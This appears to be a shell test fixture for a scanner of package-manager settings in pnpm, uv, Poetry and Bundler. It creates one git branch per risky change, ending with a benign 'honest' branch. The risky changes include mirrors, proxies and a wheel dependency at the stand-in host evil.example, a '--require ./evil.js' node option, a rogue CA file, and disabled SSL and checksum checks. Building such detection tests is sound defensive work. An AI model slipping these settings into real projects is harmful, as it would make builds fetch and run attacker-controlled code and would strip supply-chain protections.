# SPDX-License-Identifier: Apache-2.0
# Settings of pnpm, uv, Poetry and Bundler by which other code is fetched, trusted or run: one branch each. The last ones are honest.
repo
digest=$(printf 'a' | openssl dgst -sha512 -binary | base64 -w 0)
other=$(printf 'b' | openssl dgst -sha512 -binary | base64 -w 0)
printf 'packages:\n  - packages/*\nconfigDependencies:\n  hooks: 1.0.0+sha512-%s\n' "$digest" | put pnpm-workspace.yaml
echo 'registry=https://registry.example.org/' | put .npmrc
printf '[project]\nname = "shop"\nversion = "0.1.0"\ndependencies = []\n' | put pyproject.toml
printf '[[index]]\nurl = "https://index.example.org/simple"\n' | put uv.toml
printf 'source "https://gems.example.org"\n\ngem "left"\n' | put Gemfile
printf -- '---\nBUNDLE_PATH: "vendor/bundle"\nBUNDLE_FROZEN: "true"\n' | put .bundle/config
printf '[virtualenvs]\nin-project = true\n' | put poetry.toml
commit start
number=0
adds() { # FILE LINES: on a branch of its own
	number=$((number + 1))
	git checkout -q -b "s$number" main
	printf '%b' "$2" >>"$1"
	commit "s$number"
}
adds pnpm-workspace.yaml 'pnpmfile: tools/hooks.cjs\n'
adds pnpm-workspace.yaml 'scriptShell: ./tools/sh\n'
adds pnpm-workspace.yaml 'nodeOptions: --require ./evil.js\n'
adds pnpm-workspace.yaml 'cafile: ./evil.pem\n'
adds pnpm-workspace.yaml 'httpsProxy: https://evil.example\n'
adds pnpm-workspace.yaml 'nodeDownloadMirrors:\n  release: https://evil.example/\n'
adds pnpm-workspace.yaml 'lockfileDir: ./other\n'
adds pnpm-workspace.yaml 'gitBranchLockfile: true\n'
adds pnpm-workspace.yaml 'onlyBuiltDependenciesFile: ./tools/built.json\n'
adds .npmrc 'node-mirror:release=https://evil.example/\n'
adds .npmrc 'git-branch-lockfile=true\n'
adds pyproject.toml '\n[tool.uv]\npython-install-mirror = "https://evil.example"\n'
adds pyproject.toml '\n[tool.uv]\npython-downloads-json-url = "https://evil.example/x.json"\n'
adds pyproject.toml '\n[tool.uv]\nhttps-proxy = "https://evil.example"\n'
adds pyproject.toml '\n[tool.poetry.requires-plugins]\nevil = ">=1"\n'
adds poetry.toml '[certificates.main]\ncert = false\n'
adds poetry.toml '[installer]\nno-binary = ":all:"\n'
adds .bundle/config 'BUNDLE_MIRROR__ALL: "https://evil.example"\n'
adds .bundle/config 'BUNDLE_LOCAL__TOOL: "evil"\n'
adds .bundle/config 'BUNDLE_DISABLE_CHECKSUM_VALIDATION: "true"\n'
adds .bundle/config 'BUNDLE_SSL_VERIFY_MODE: "0"\n'
adds .bundle/config 'BUNDLE_SSL_CA_CERT: "./evil.pem"\n'
adds .bundle/config 'BUNDLE_GEMFILE: "other/Gemfile"\n'
adds .bundle/config 'BUNDLE_LOCKFILE: "other.lock"\n'
adds Gemfile 'plugin "evil"\n'
adds Gemfile 'gem "right", source: "https://evil.example"\n'
adds Gemfile 'lockfile "other.lock"\n'
git checkout -q -b s28 main
sed -i '/BUNDLE_FROZEN/d' .bundle/config
commit s28
git checkout -q -b s29 main
sed -i "s|$digest|$other|" pnpm-workspace.yaml
commit s29
for list in dependencies requires; do
	git checkout -q -b "s-$list" main
	sed -i 's|^dependencies.*||' pyproject.toml
	[ $list = dependencies ] || printf '\n[build-system]\n' >>pyproject.toml
	printf '%s = ["evil @ https://evil.example/evil-1.0-py3-none-any.whl"]\n' $list >>pyproject.toml
	commit "s-$list"
done
# From here on nothing is found.
git checkout -q -b honest main
printf 'nodeLinker: hoisted\nscriptShell: bash\nnodeOptions: --max-old-space-size=4096\npreferFrozenLockfile: true\n' >>pnpm-workspace.yaml
sed -i "s|1.0.0+sha512-$digest|1.1.0+sha512-$other|" pnpm-workspace.yaml
printf '\n[tool.uv]\npackage = false\n\n[build-system]\nrequires = ["setuptools>=61", "own @ https://index.example.org/own-1.0-py3-none-any.whl"]\n' >>pyproject.toml
printf '[certificates.main]\ncert = true\n[solver]\nmin-release-age = 3\n' >>poetry.toml
printf 'BUNDLE_JOBS: "4"\nBUNDLE_SSL_VERIFY_MODE: "1"\nBUNDLE_GEMFILE: "Gemfile"\n' >>.bundle/config
printf 'gem "right", source: "https://gems.example.org"\n' >>Gemfile
commit honest
